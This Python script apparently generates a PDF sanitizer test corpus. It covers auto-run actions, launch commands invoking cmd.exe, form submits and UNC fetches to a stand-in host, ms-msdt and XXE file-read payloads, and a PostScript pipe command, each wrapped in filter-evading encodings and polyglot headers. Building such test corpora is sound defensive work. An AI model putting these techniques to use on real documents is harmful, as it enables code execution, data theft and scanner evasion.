#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Every way that is known to make a PDF start, fetch, send or hide something, one a file, in many writings. usage: FOLDER [STAMP]

Actions (ISO 32000-2 12.6) in every place that can hold one; what acts without an action (attachments, media, forms, outside
streams, fonts and functions with programs, encryption, updates); each in writings that filters miss: escaped names, octal and
hexadecimal strings, object streams, updates upon updates, no cross-reference, other files before and behind. A word
VECTOR-nnnn-XXXX stands wherever no output may carry it. tests/check/pdf_vectors.py says what must become of them.
"""
import hashlib
import os
import re
import struct
import sys
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from make_pdf_samples import HELVETICA, Pdf  # noqa: E402

ACTIONS = {
    "script": "<< /S /JavaScript /JS (app.alert\\('@'\\)) >>",
    "script-stream": "<< /S /JavaScript /JS {stream} >>",
    "launch": "<< /S /Launch /F (@.exe) >>",
    "launch-win": "<< /S /Launch /Win << /F (cmd.exe) /P (/c @) /O /print /D (c:\\\\) >> >>",
    "launch-unix": "<< /S /Launch /Unix << /F (@) >> /Mac << /F (@) >> /NewWindow true >>",
    "remote": "<< /S /GoToR /F (\\\\\\\\203.0.113.9\\\\@\\\\a.pdf) /D [0 /Fit] /NewWindow true >>",
    "remote-url": "<< /S /GoToR /F << /Type /Filespec /FS /URL /F (http://203.0.113.9/@) >> /D (x) >>",
    "embedded": "<< /S /GoToE /T << /R /C /N (@) >> /D [0 /Fit] >>",
    "embedded-parent": "<< /S /GoToE /F (@.pdf) /T << /R /P /T << /R /C /P 0 /A (@) >> >> >>",
    "document-part": "<< /S /GoToDp /Dp << /Type /DPart /X (@) >> >>",
    "submit": "<< /S /SubmitForm /F << /FS /URL /F (http://203.0.113.9/@) >> /Flags 4 >>",
    "submit-pdf": "<< /S /SubmitForm /F (http://203.0.113.9/@) /Fields [(@)] /Flags 256 >>",
    "reset": "<< /S /ResetForm /Fields [(@)] >>",
    "import": "<< /S /ImportData /F (@.fdf) >>",
    "named": "<< /S /Named /N /@ >>",
    "named-print": "<< /S /Named /N /Print /X (@) >>",
    "named-save": "<< /S /Named /N /SaveAs /X (@) >>",
    "hide": "<< /S /Hide /T (@) /H false >>",
    "rendition": "<< /S /Rendition /OP 0 /JS (@) /R << /S /MR /C << /S /MCD /D << /FS /URL /F (http://203.0.113.9/@) >> >> >> /AN 1 0 R >>",
    "sound": "<< /S /Sound /Sound {stream} /Synchronous true >>",
    "movie": "<< /S /Movie /T (@) /Operation /Play >>",
    "layers": "<< /S /SetOCGState /State [/Toggle {group}] /X (@) >>",
    "thread": "<< /S /Thread /F (@.pdf) /D 0 >>",
    "view3d": "<< /S /GoTo3DView /TA 1 0 R /V (@) >>",
    "media": "<< /S /RichMediaExecute /TA 1 0 R /CMD << /C (@) /A [(@)] >> >>",
    "trans": "<< /S /Trans /Trans << /S /@ >> >>",
    "unknown": "<< /S /@ /JS (@) /F (@) >>",
    "chain": "<< /S /GoTo /D [{page} /Fit] /Next << /S /JavaScript /JS (@) >> >>",
    "chain-array": "<< /S /URI /URI (https://example.jp/) /Next [<< /S /Launch /F (@) >> << /S /Named /N /NextPage /Next << /S /JavaScript /JS (@) >> >>] >>",
    "next-loop": "<< /S /JavaScript /JS (@) /Next {self} >>",
    "type-lies": "<< /Type /Action /S /GoTo /S /JavaScript /JS (@) /D [{page} /Fit] >>",
    "no-type": "<< /JS (@) /URI (javascript:@) /F (@) >>",
}
ADDRESSES = [
    "javascript:app.alert(@)", "JaVaScRiPt:@", "java\\nscript:@", " javascript:@", "vbscript:@", "data:text/html;base64,@", "file:///C:/Windows/@.exe",
    "file://203.0.113.9/@", "\\\\\\\\203.0.113.9\\\\@", "//203.0.113.9/@", "\\\\//203.0.113.9/@", "ms-msdt:/id @", "search-ms:query=@&crumb=location:\\\\\\\\203.0.113.9",
    "ms-word:ofe|u|http://203.0.113.9/@", "mhtml:http://203.0.113.9/@!x-usc:http://203.0.113.9/", "ftp://203.0.113.9/@", "smb://203.0.113.9/@", "ldap://203.0.113.9/@",
    "res://@", "shell:@", "about:@", "cid:@", "tel:@", "http://user:@@203.0.113.9/", "http://203.0.113.9\\\\@", "http:///@", "http:@", "https://", "jar:http://203.0.113.9/@!/",
    "view-source:http://203.0.113.9/@", "http://203.0.113.9/\\000@", "http://203.0.113.9/ @", "http://203.0.113.9/\\\"@", "http://203.0.113.9/<@>", "\\376\\377\\000j\\000a\\000v\\000a\\000s\\000c\\000r\\000i\\000p\\000t\\000:@",
    "@.pdf#page=1", "../../@", "C:\\\\@.lnk", "onenote:http://203.0.113.9/@", "ms-officecmd:@", "x-apple.systempreferences:@", "callto:@", "acrobat:@", "res:@", "mailto:a@@b?attach=@ x"]
BLOCK = "q 0.9 g 20 20 160 100 re f Q BT /F 12 Tf 20 150 Td (visible) Tj ET"
made, words = {}, []


class Doc:
    """One page with a word on it, and what a vector adds. Its text may name {page} {stream} {group} {self} and @, the planted word."""

    def __init__(self, name):
        words.append("VECTOR-%04d-%s" % (len(words) + 1, re.sub(r"[^A-Za-z0-9]", "", name)[:24]))
        self.word, self.pdf, self.name = words[-1], Pdf(), name
        self.catalog = self.page = self.resources = self.trailer = ""
        self.content = BLOCK
        self.numbers = {n: self.pdf.reserve() for n in ("catalog", "pages", "page", "stream", "group", "self")}
        self.pdf.set(self.numbers["stream"], "<< /Type /X >>", self.word.encode() * 2)
        self.pdf.set(self.numbers["group"], self.text("<< /Type /OCG /Name (@) >>"))
        self.pdf.set(self.numbers["self"], "null")

    def text(self, text):
        for name, number in self.numbers.items():
            text = text.replace("{%s}" % name, "%d 0 R" % number)
        return text.replace("@@", "\0").replace("@", self.word).replace("\0", "@")

    def add(self, text, stream=None):
        return "%d 0 R" % self.pdf.add(self.text(text), self.text(stream).encode("latin-1") if isinstance(stream, str) else stream)

    def action(self, text):
        """As an object of its own where it names itself."""
        if "{self}" not in text:
            return text
        self.pdf.set(self.numbers["self"], self.text(text))
        return "{self}"

    def done(self):
        n, p = self.numbers, self.pdf
        body = self.add("<< >>", self.content)
        p.set(n["pages"], self.text("<< /Type /Pages /Kids [{page}] /Count 1 >>"))
        p.set(n["page"], self.text("<< /Type /Page /Parent {pages} /MediaBox [0 0 200 200] /Contents %s /Resources << %s %s >> %s >>" % (body, "" if "/Font <<" in self.resources else HELVETICA, self.resources, self.page)))
        p.set(n["catalog"], self.text("<< /Type /Catalog /Pages {pages} %s >>" % self.catalog))
        return self

    def objects(self):
        return [(i + 1, t, s) for i, (t, s) in enumerate(self.pdf.objects)]


# --- writings ---

def piece(number, text, stream):
    if stream is None:
        return b"%d 0 obj\n%s\nendobj\n" % (number, text.encode("latin-1"))
    return b"%d 0 obj\n%s /Length %d >>\nstream\n" % (number, text.rstrip()[:-2].encode("latin-1"), len(stream)) + stream + b"\nendstream\nendobj\n"


def plain(doc, change=lambda t: t, head=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", objects=None, extra="", base=0, old=None, root=None):
    """With a table; upon `old` (bytes, place of its table) as an update."""
    out, places = bytearray(old[0] if old else head), {}
    for number, text, stream in objects if objects is not None else doc.objects():
        places[number] = len(out) - base
        out += piece(number, change(text), stream)
    start = len(out) - base
    out += b"xref\n" + (b"" if old else b"0 1\n0000000000 65535 f \n")
    for number, at in sorted(places.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, at)
    trailer = "<< /Size %d /Root %d 0 R %s %s >>" % (len(doc.pdf.objects) + 1, root or doc.numbers["catalog"], doc.text(doc.trailer) + extra, "/Prev %d" % old[1] if old else "")
    out += b"trailer\n" + change(trailer).encode("latin-1") + b"\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def start_of(data):
    return int(data[data.rindex(b"startxref") + 10:].split()[0])


def each_string(text, to):
    """Literal strings exchanged; keeps count of parentheses and backslashes."""
    out, i = "", 0
    while i < len(text):
        if text[i] != "(":
            out, i = out + text[i], i + 1
            continue
        depth, raw, i = 1, b"", i + 1
        while True:
            c = text[i]
            if c == "\\":
                octal = re.match(r"[0-7]{1,3}", text[i + 1:])
                if octal:
                    raw, i = raw + bytes([int(octal.group(), 8) & 255]), i + 1 + octal.end()
                else:
                    raw, i = raw + {"n": b"\n", "r": b"\r", "t": b"\t"}.get(text[i + 1], text[i + 1].encode("latin-1")), i + 2
                continue
            depth += (c == "(") - (c == ")")
            i += 1
            if depth == 0:
                break
            raw += c.encode("latin-1")
        out += to(raw)
    return out


def escaped(text):
    """Every second letter of every name by its number; strings stay."""
    parts, out = re.split(r"(\((?:\\.|[^()\\])*\))", text), ""
    for part in parts:
        out += part if part.startswith("(") else re.sub(
            r"/([A-Za-z0-9.:_-]+)", lambda m: "/" + "".join("#%02x" % ord(c) if i % 2 == 0 else c for i, c in enumerate(m.group(1))), part)
    return out


def spaced(text):
    parts = re.split(r"(\((?:\\.|[^()\\])*\)|<[0-9a-fA-F]*>)", text)
    return "".join(p if p.startswith("(") or re.fullmatch(r"<[0-9a-fA-F]*>", p) else re.sub(r" ", "%(<<\r\0\t", p) for p in parts)


def hexadecimal(text):
    return each_string(text, lambda raw: "<" + " ".join("%02X" % b for b in raw) + ">")


def octal(text):
    return each_string(text, lambda raw: "(" + "".join("\\%03o" % b if i % 2 else "\\\n" + ("\\%03o" % b) for i, b in enumerate(raw)) + ")")


def sixteen(text):
    return each_string(text, lambda raw: "<feff" + "".join("00%02x" % b for b in raw) + ">" if b"VECTOR" in raw else "(" + "".join("\\%03o" % b for b in raw) + ")")


def in_streams(doc, filters="flate", hybrid=False, change=lambda t: t):
    """All that is no stream in object streams, with a cross-reference stream (hybrid: and a table that knows nothing of them)."""
    out, rows = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {0: (0, 0, 65535)}
    inner = [(n, change(t)) for n, t, s in doc.objects() if s is None]
    for n, t, s in doc.objects():
        if s is not None:
            rows[n] = (1, len(out), 0)
            out += piece(n, change(t), s)
    holder, index = len(doc.pdf.objects) + 1, len(doc.pdf.objects) + 2
    head = at = ""
    for i, (n, t) in enumerate(inner):
        head += "%d %d " % (n, len(at))
        at += t + " "
        rows[n] = (2, holder, i)
    data = (head + at).encode("latin-1")
    name = "/Filter /FlateDecode"
    data = zlib.compress(data) if filters == "flate" else data
    if filters == "stack":
        data, name = zlib.compress(zlib.compress(data)).hex().encode() + b">", "/Filter [/ASCIIHexDecode /Fl#61teDecode /FlateDecode]"
    if filters == "none":
        name = ""
    rows[holder] = (1, len(out), 0)
    out += piece(holder, "<< /Type /ObjStm /N %d /First %d %s >>" % (len(inner), len(head), name), data)
    rows[index] = (1, len(out), 0)
    start = len(out)
    table = b"".join(struct.pack(">BIH", *rows.get(i, (0, 0, 0))) for i in range(index + 1))
    trailer = "/Size %d /Root %d 0 R %s" % (index + 1, doc.numbers["catalog"], doc.text(doc.trailer))
    out += piece(index, "<< /Type /XRef /W [1 4 2] %s >>" % trailer, table)
    if hybrid:
        at = len(out)
        known = {n: row for n, row in rows.items() if row[0] == 1}
        out += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, row[1]) for n, row in sorted(known.items()))
        out += b"trailer\n<< %s /XRefStm %d >>\n" % (trailer.encode("latin-1"), start)
        start = at
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def rc4(key, data):
    s, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 255
        s[i], s[j] = s[j], s[i]
    i = j = 0
    for b in data:
        i = (i + 1) & 255
        j = (j + s[i]) & 255
        s[i], s[j] = s[j], s[i]
        out.append(b ^ s[(s[i] + s[j]) & 255])
    return bytes(out)


PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def encrypted(doc):
    """RC4 of 40 bits with the empty password: opened by every viewer without a question."""
    owner = rc4(hashlib.md5(PAD).digest()[:5], PAD)
    key = hashlib.md5(PAD + owner + struct.pack("<i", -4) + b"0123456789abcdef").digest()[:5]
    user = rc4(key, PAD)

    def own(number):
        return hashlib.md5(key + struct.pack("<I", number)[:3] + b"\0\0").digest()[:10]
    objects = [(n, each_string(t, lambda raw, k=own(n): "<" + rc4(k, raw).hex() + ">"), None if s is None else rc4(own(n), s)) for n, t, s in doc.objects()]
    extra = " /ID [<30313233343536373839616263646566> <30313233343536373839616263646566>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >>" % (owner.hex(), user.hex())
    return plain(doc, objects=objects, extra=extra)


def harmless(doc):
    """The same document with nothing in it, object by object."""
    n = doc.numbers
    keep = {n["pages"], n["page"]}
    return [(i, t if i in keep else "<< /Type /Catalog /Pages %d 0 R >>" % n["pages"] if i == n["catalog"] else "<< >>", s if i in keep else None) for i, t, s in doc.objects()]


def update_alive(doc):
    old = plain(doc, objects=[(i, re.sub(r"/(AA|Annots|A)\b.*(?= >>$)", "", t) if i == doc.numbers["page"] else t, s) for i, t, s in harmless(doc)])
    return plain(doc, old=(old, start_of(old)))


def update_dead(doc):
    """Alive below, and covered by an update: what a viewer of old versions, or a repair, would find."""
    old = plain(doc)
    clean = [(i, t, s) for i, t, s in harmless(doc) if i == doc.numbers["catalog"]]
    return plain(doc, objects=clean, old=(old, start_of(old)))


def three_updates(doc):
    data = plain(doc)
    for _ in range(3):
        data = plain(doc, old=(data, start_of(data)))
    return data


def no_table(doc):
    data = plain(doc)
    return data[:data.rindex(b"xref\n", 0, data.rindex(b"startxref"))] + b"trailer\n<< /Root %d 0 R >>\n" % doc.numbers["catalog"]


def wrong_table(doc):
    return re.sub(rb"startxref\n\d+", b"startxref\n7", plain(doc))


def twice_keys(doc):
    return plain(doc, change=lambda t: re.sub(r"/(OpenAction|AA|A|S|JS|F|Names|AcroForm) ", lambda m: "/%s null /%s " % (m.group(1), m.group(1)), t))


def twice_objects(doc):
    """Every object defined twice, the first one harmless; a reader that repairs takes another one than one that does not."""
    data = plain(doc, objects=harmless(doc) + doc.objects())
    return data


def generations(doc):
    return plain(doc).replace(b" 0 obj", b" 00000 obj").replace(b" 0 R", b" 00 R")


def zip_before(doc):
    name, data = b"a.txt", doc.word.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), 0) + name + data
    return plain(doc, head=local + b"%PDF-1.7\n")


def zip_behind(doc):
    out, name, data = plain(doc), b"a.txt", doc.word.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), 0) + name + data
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), 0, 0, 0, 0, 0, len(out)) + name
    return out + local + central + struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(central), len(out) + len(local), 0)


def word_in(doc):
    return doc.word.encode()


WRITINGS = {
    "escaped": lambda d: plain(d, escaped), "hex": lambda d: plain(d, hexadecimal), "octal": lambda d: plain(d, octal), "utf16": lambda d: plain(d, sixteen),
    "spaced": lambda d: plain(d, spaced), "carriage": lambda d: plain(d, lambda t: t.replace(" ", "\r")), "both": lambda d: plain(d, lambda t: hexadecimal(escaped(t))),
    "streams": in_streams, "streams-plain": lambda d: in_streams(d, "none"), "streams-stack": lambda d: in_streams(d, "stack"),
    "streams-escaped": lambda d: in_streams(d, change=escaped), "hybrid": lambda d: in_streams(d, hybrid=True), "encrypted": encrypted,
    "update": update_alive, "update-covered": update_dead, "updates": three_updates, "no-table": no_table, "wrong-table": wrong_table,
    "twice-keys": twice_keys, "twice-objects": twice_objects, "generations": generations, "at-1000": lambda d: plain(d, head=b"x" * 1000 + b"%PDF-1.7\n"),
    "at-1000-own": lambda d: plain(d, head=b"x" * 1000 + b"%PDF-1.7\n", base=1000), "html": lambda d: plain(d, head=b"<html><script>" + word_in(d) + b"</script>%PDF-1.7\n"),
    "script-file": lambda d: plain(d, head=b"/*%PDF-1.7\n") + b"*/" + word_in(d), "exe": lambda d: plain(d, head=b"MZ" + bytes(58) + b"%PDF-1.7\n"),
    "gif": lambda d: plain(d, head=b"GIF89a\1\0\1\0\0\0\0%PDF-1.7\n"), "version": lambda d: plain(d, head=b"%PDF-9.9\n"), "no-version": lambda d: plain(d, head=b"%PDF-\0\n"),
    "fdf": lambda d: plain(d, head=b"%FDF-1.2\n%PDF-1.7\n"), "zip-before": zip_before, "zip-behind": zip_behind, "behind": lambda d: plain(d) + word_in(d) * 50,
    "behind-second": lambda d: plain(d) + plain(d), "no-end": lambda d: plain(d).replace(b"endobj\n", b""), "linear-lie": lambda d: plain(
        d, head=b"%PDF-1.7\n99 0 obj\n<< /Linearized 1 /L 1 /H [1 1] /O 1 /E 1 /N 1 /T 1 /X (" + word_in(d) + b") >>\nendobj\n"),
}


def put(name, doc, data=None):
    made[name + ".pdf"] = plain(doc) if data is None else data


# --- where an action stands ---

def place_open(d, a):
    d.catalog += "/OpenAction " + a


def place_catalog(d, a):
    d.catalog += "/AA << %s >>" % " ".join("/%s %s" % (k, a) for k in ("WC", "WS", "DS", "WP", "DP"))


def place_page(d, a):
    d.page += "/AA << /O %s /C %s >>" % (a, a)


def place_names(d, a):
    d.catalog += "/Names << /JavaScript << /Names [(@) %s] >> /Pages << /Names [(@) %s] >> /URLS << /Names [(@) %s] >> /AlternatePresentations << /Names [(@) %s] >> >>" % (a, a, a, a)


def place_names_deep(d, a):
    leaf = d.add("<< /Limits [(a) (z)] /Names [(@) %s] >>" % a)
    d.catalog += "/Names << /JavaScript << /Kids [%s << /Kids [%s] >>] >> >>" % (leaf, leaf)


def place_outline(d, a):
    item = d.add("<< /Title (visible) /A %s /AA << /U %s >> /SE << /X (@) >> >>" % (a, a))
    d.catalog += "/Outlines << /First %s /Last %s /Count 1 >>" % (item, item)


def place_destination(d, a):
    d.catalog += "/Dests << /x << /D [{page} /Fit] /A %s >> >>" % a
    d.page += "/Annots [<< /Subtype /Link /Rect [0 0 50 50] /Dest /x /PA %s >>]" % a


def place_field(d, a):
    field = d.add("<< /Type /Annot /Subtype /Widget /FT /Tx /T (t) /Rect [20 20 100 40] /DA (/H 9 Tf) /V (5) /A %s /AA << %s >> >>" % (a, " ".join("/%s %s" % (k, a) for k in "KFVCEXDU")))
    d.catalog += "/AcroForm << /Fields [%s] /CO [%s] /NeedAppearances true /DA (/H 9 Tf) >>" % (field, field)
    d.page += "/Annots [%s]" % field


def place_button(d, a):
    field = d.add("<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (@) /Rect [20 20 100 40] /MK << /CA (visible) /AC (@) >> /A %s /AA << /Fo %s /Bl %s >> >>" % (a, a, a))
    d.catalog += "/AcroForm << /Fields [<< /T (@) /Kids [%s] /AA << /K %s >> >>] >>" % (field, a)
    d.page += "/Annots [%s]" % field


def place_structure(d, a):
    d.catalog += "/MarkInfo << /Marked true >> /StructTreeRoot << /Type /StructTreeRoot /K << /Type /StructElem /S /P /T (@) /A << /O /@ /X %s >> /AA << /O %s >> /AF [%s] >> >>" % (a, a, a)


def place_layer(d, a):
    d.catalog += "/OCProperties << /OCGs [{group}] /D << /Name (@) /AS [<< /Event /View /OCGs [{group}] /Category [/@] >>] /AA %s >> >>" % a


def place_trailer(d, a):
    d.trailer += "/OpenAction %s /AA << /O %s >> /Info << /A %s /Author (@) >>" % (a, a, a)


def place_page_odd(d, a):
    d.page += "/A %s /OpenAction %s /PresSteps << /NA %s /PA %s >> /Trans << /S /@ >> /B [<< /T << /I << /Title (@) >> /AA %s >> >>]" % (a, a, a, a, a)


def place_pages(d, a):
    d.pdf.set(d.numbers["pages"], "null")
    d.catalog += "/Extensions << /@ << /BaseVersion /1.7 >> >> /Requirements [<< /S /EnableJavaScripts /RH << /S /JS /Script (@) >> >>] /Legal << /X %s >> /Perms << /UR3 << /X %s >> >>" % (a, a)


def annotation_place(kind):
    def place(d, a):
        extra = {"Popup": "/Parent 1 0 R", "Screen": "/MK << >>", "FileAttachment": "/FS (@)", "Sound": "/Sound {stream}", "Movie": "/Movie << /F (@) >>"}.get(kind, "")
        triggers = " ".join("/%s %s" % (k, a) for k in ("E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI"))
        d.page += "/Annots [<< /Type /Annot /Subtype /%s /Rect [20 20 100 60] /Contents (@) /T (@) /NM (@) /Subj (@) /RC (@) %s /A %s /AA << %s >> >>]" % (kind, extra, a, triggers)
    return place


PLACES = {f.__name__[6:].replace("_", "-"): f for f in (place_open, place_catalog, place_page, place_names, place_names_deep, place_outline, place_destination, place_field,
                                                       place_button, place_structure, place_layer, place_trailer, place_page_odd, place_pages)}
KINDS = """Link Text FreeText Line Square Circle Polygon PolyLine Highlight Underline Squiggly StrikeOut Caret Stamp Ink Popup FileAttachment
    Sound Movie Screen Widget PrinterMark TrapNet Watermark 3D Redact Projection RichMedia Unheard""".split()
PLACES.update({"annotation-" + k.lower(): annotation_place(k) for k in KINDS})


def actions():
    for place, set_ in PLACES.items():
        for name, text in ACTIONS.items():
            if place.startswith("annotation-") and place != "annotation-link" and name not in ("script", "launch", "submit", "remote", "chain"):
                continue
            d = Doc("%s-%s" % (place, name))
            set_(d, d.action(text))
            put("action-%s-%s" % (place, name), d.done())


def addresses():
    for i, address in enumerate(ADDRESSES):
        for where in ("link", "outline", "widget", "base"):
            d = Doc("address%d%s" % (i, where))
            a = "<< /S /URI /URI (%s) /IsMap true >>" % address
            if where == "link":
                d.page += "/Annots [<< /Subtype /Link /Rect [0 0 100 100] /A %s >>]" % a
            elif where == "outline":
                place_outline(d, a)
            elif where == "widget":
                place_button(d, a)
            else:
                d.catalog += "/URI << /Base (%s) >>" % address
                d.page += "/Annots [<< /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (@) >> >>]"
            put("address-%02d-%s" % (i, where), d.done())


# --- what acts without an action ---

def things():
    embedded = "<< /Type /Filespec /F (@.exe) /UF (@.exe) /Desc (@) /AFRelationship /Data /EF << /F {stream} /UF {stream} >> >>"
    font = "/Font << /F << /Type /Font %s >> >>"
    yield "attachment", dict(catalog="/Names << /EmbeddedFiles << /Names [(@) %s] >> >>" % embedded)
    yield "attachment-collection", dict(catalog="/Names << /EmbeddedFiles << /Names [(@) %s] >> >> /Collection << /View /D /D (@) /Schema << /@ << /S /F /N (@) >> >> >>" % embedded)
    yield "attachment-af", dict(catalog="/AF [%s]" % embedded, page="/AF [%s]" % embedded)
    yield "attachment-annotation", dict(page="/Annots [<< /Subtype /FileAttachment /Rect [0 0 20 20] /FS %s /Contents (@) >>]" % embedded)
    yield "attachment-mark", dict(content="/AF /P BDC 0 0 9 9 re f EMC " + BLOCK, resources="/Properties << /P %s >>" % embedded)
    for key in ("EmbeddedFiles", "Renditions", "Templates", "IDS", "AP", "XFAResources"):
        yield "names-" + key.lower(), dict(catalog="/Names << /%s << /Names [(@) {stream}] >> >>" % key)
    for kind in ("RichMedia", "3D", "Screen", "Movie", "Sound", "Projection", "TrapNet", "PrinterMark"):
        yield "media-" + kind.lower(), dict(page="/Annots [<< /Subtype /%s /Rect [0 0 90 90] /RichMediaContent << /Assets << /Names [(@) %s] >> /Configurations [<< /Subtype /Flash /Instances"
                                            " [<< /Asset %s /Params << /FlashVars (@) >> >>] >>] >> /RichMediaSettings << /Activation << /Condition /PV >> >> /3DD << /Type /3D /Subtype /U3D"
                                            " /OnInstantiate {stream} >> /3DA << /A /PO >> /Movie << /F (@) /Poster true >> /Sound {stream} /A << /S /Rendition /JS (@) >> >>]" % (kind, embedded, embedded))
    for part in ("template", "config", "xdp", "datasets"):
        yield "xfa-" + part, dict(catalog="/AcroForm << /Fields [] /XFA [(%s) {xfa}] >>" % part, xfa=b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/@'>]><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>"
                                  b"<script contentType='application/x-formcalc'>Post('http://203.0.113.9/@')</script>&e;</xdp:xdp>")
    yield "xfa-alone", dict(catalog="/AcroForm << /XFA {xfa} >> /NeedsRendering true", xfa=b"<xdp><submit target='http://203.0.113.9/@' textEncoding='UTF-16\r\nHost: @'/></xdp>")
    yield "signature", dict(catalog="/AcroForm << /SigFlags 3 /Fields [<< /FT /Sig /T (@) /V << /Type /Sig /Filter /Adobe.PPKLite /Name (@) /Reason (@) /Contents <00> /ByteRange [0 1 2 3] >> >>] >> /Perms << /DocMDP"
                            " << /Type /Sig /Name (@) >> >> /DSS << /Certs [{stream}] >>")
    yield "signature-seen", dict(page="/Annots [<< /Subtype /Widget /FT /Sig /T (@) /Rect [0 0 90 20] /V << /Name (@) /Reason (@) >> /Lock << /Fields [(@)] >> /SV << /URL (http://203.0.113.9/@) >> >>]")
    yield "metadata", dict(catalog="/Metadata {xfa} /PieceInfo << /@ << /Private (@) >> >> /Lang (@ @) /SpiderInfo << /V 1.0 /C [(@)] >>", trailer="/Info << /Author (@) /Title (@) /Creator (@) /@ (@) >>"
                           " /ID [(@) (@)] /DocChecksum /@", page="/PieceInfo << /@ << /Private (@) >> >> /Metadata {xfa} /LastModified (@) /ID (@)", xfa=b"<?xpacket?><x>@</x>")
    yield "labels", dict(catalog="/PageLabels << /Nums [0 << /S /@ /P (javascript:alert) >>] >>")
    yield "threads", dict(catalog="/Threads [<< /F << /P {page} >> /I << /Title (@) >> >>]")
    yield "viewer", dict(catalog="/ViewerPreferences << /HideMenubar true /NonFullScreenPageMode /@ /Enforce [/@] /PrintPageRange [1 1] >> /PageMode /FullScreen /PageLayout /@")
    yield "intents", dict(catalog="/OutputIntents [<< /S /GTS_PDFA1 /OutputConditionIdentifier (@) /DestOutputProfile {stream} /DestOutputProfileRef << /URLs [(http://203.0.113.9/@)] >> >>]")
    yield "measure", dict(page="/VP [<< /BBox [0 0 9 9] /Name (@) /Measure << /Subtype /GEO /X (@) >> /PtData << /X (@) >> >>]")
    yield "web-capture", dict(catalog="/SpiderInfo << /C [<< /URL (http://203.0.113.9/@) /P (@) >>] >> /Names << /URLS << /Names [(@) << /S /SPS /O [{page}] /SI << /AU (http://203.0.113.9/@) >> >>] >> >>")
    yield "parts", dict(catalog="/DPartRoot << /DPartRootNode << /DPM << /@ (@) >> >> /NodeNameList [/@] >>")
    # streams that lie elsewhere, pictures that stand for others
    outside = "/F << /FS /URL /F (http://203.0.113.9/@) >> /FFilter /DCTDecode"
    square = "<< /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 %s >>"
    draw = BLOCK + " q 50 0 0 50 100 0 cm /I Do Q"
    for name, extra in {"outside-url": outside, "outside-file": "/F (\\\\\\\\203.0.113.9\\\\@)", "outside-parms": "/F << /F (@) /EF << /F {stream} >> >> /FDecodeParms << /X (@) >>",
                        "alternates": "/Alternates [<< /Image {other} /DefaultForPrinting true >>]", "opi": "/OPI << /1.3 << /F (@) >> /2.0 << /F (http://203.0.113.9/@) >> >>",
                        "picture-metadata": "/Metadata {stream} /ID (@) /Name /@ /PieceInfo << /@ (@) >> /AF [%s]" % embedded, "soft-data": "/SMaskInData 2 /SMask {other} /Matte [0] /X (@)",
                        "intent": "/Intent /@ /Measure << /X (@) >> /PtData << /X (@) >>"}.items():
        yield "picture-" + name, dict(content=draw, resources="/XObject << /I {made} >>", made=(square % extra, bytes(range(64))), other=(square % outside, b""))
    for name, codec, data in (("dct", "/DCTDecode", b"\xff\xd8\xff\xe1\0\x20Exif\0\0@\xff\xd9"), ("jpx", "/JPXDecode", b"\0\0\0\x0cjP  \r\n\x87\n@"), ("jbig2", "/JBIG2Decode", b"\0\0\0\0@"),
                              ("fax", "/CCITTFaxDecode", b"@"), ("crypt", "/Crypt", b"@"), ("unknown", "/@", b"@"), ("lzw", "/LZWDecode", b"@"), ("runs", "/RunLengthDecode", b"@")):
        yield "codec-" + name, dict(content=draw, resources="/XObject << /I {made} >>", made=(square % ("/Filter %s /DecodeParms << /JBIG2Globals {stream} /Name /@ /X (@) >>" % codec), data))
    form = "<< /Subtype /Form /BBox [0 0 99 99] %s >>"
    for name, extra in {"reference": "/Ref << /F (@.pdf) /Page 0 /ID [(@) (@)] >>", "postscript": "/Subtype2 /PS /PS {stream}", "form-metadata": "/PieceInfo << /@ (@) >> /Metadata {stream} /LastModified (@) /StructParent 3",
                        "form-opi": "/OPI << /2.0 << /F (@) >> >>", "form-outside": "/F (@) /FFilter /FlateDecode"}.items():
        yield "form-" + name, dict(content=BLOCK + " /I Do", resources="/XObject << /I {made} >>", made=(form % extra, b"0 0 9 9 re f"))
    yield "postscript-object", dict(content=BLOCK + " /I Do", resources="/XObject << /I {made} >>", made=("<< /Subtype /PS /Level1 {stream} >>", b"(@) run (%pipe%id) (r) file"))
    # operators and names
    yield "operators", dict(content="/@ gs /@ Do /@ sh BT /@ 9 Tf (x) Tj ET /@ BMC EMC /@ << /@ (@) >> BDC EMC /@ /@ DP /@ MP @ (@) @ BX @ (@) xx EX MP " + BLOCK)
    yield "actual-text", dict(content="/Span << /Alt (javascript:0) /E (x) /Lang (xx) /ActualText (y) /X (@) >> BDC EMC " + BLOCK)
    yield "inline", dict(content="BI /W 2 /H 2 /CS /G /BPC 8 /F /@ /@ (@) ID abcd EI " + BLOCK)
    yield "state", dict(content="/G gs " + BLOCK, resources="/ExtGState << /G << /Type /ExtGState /HT << /HalftoneType 1 /SpotFunction {stream} /HalftoneName (@) >> /BG {stream} /UCR {stream} /TR {stream} /Font [{stream} 9] /@ (@) /SMask << /S /@ /G {stream} /TR {stream} >> >> >>")
